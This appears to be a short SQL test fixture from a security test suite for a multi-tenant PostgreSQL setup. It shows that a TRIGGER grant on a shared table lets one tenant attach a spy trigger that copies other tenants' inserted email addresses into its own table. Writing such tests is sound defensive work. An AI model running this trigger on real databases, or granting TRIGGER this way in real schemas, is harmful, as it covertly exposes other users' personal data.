-- TRIGGER on a table: a trigger of one tenant's making sees what the others write.
-- object: public.accounts_member
-- base: third_django
--- setup
RESET ROLE;
CREATE SCHEMA plugins;
GRANT CREATE, USAGE ON SCHEMA plugins TO {app};
--- leak
GRANT TRIGGER ON accounts_member TO {app};
--- exploit
CREATE TABLE plugins.seen (line text);
CREATE FUNCTION plugins.spy() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO plugins.seen VALUES (NEW.email); RETURN NEW; END $$;
--- exploit
CREATE TRIGGER spy AFTER INSERT ON accounts_member FOR EACH ROW EXECUTE FUNCTION plugins.spy();
--- victim
INSERT INTO accounts_member (tenant_id, email) VALUES (8, 'new@bolt.test');
--- exploit
SELECT line FROM plugins.seen WHERE line = 'new@bolt.test';
